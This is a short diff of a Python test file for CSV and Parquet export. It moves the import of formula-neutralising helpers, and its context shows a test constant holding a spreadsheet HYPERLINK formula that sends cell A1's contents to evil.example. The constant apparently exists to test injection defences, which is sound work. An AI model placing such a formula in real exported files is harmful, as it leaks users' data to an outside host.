@@ -15,8 +15,8 @@ import pyarrow.parquet as pq
 import pytest
 
 from annotator.models import Dataset, Sample
+from review.services.csv_cells import csv_value, neutralise_formula
 from review.services.export import write_csv, write_parquet
-from review.services.export_rows import csv_value, neutralise_formula
 from tests import factories
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
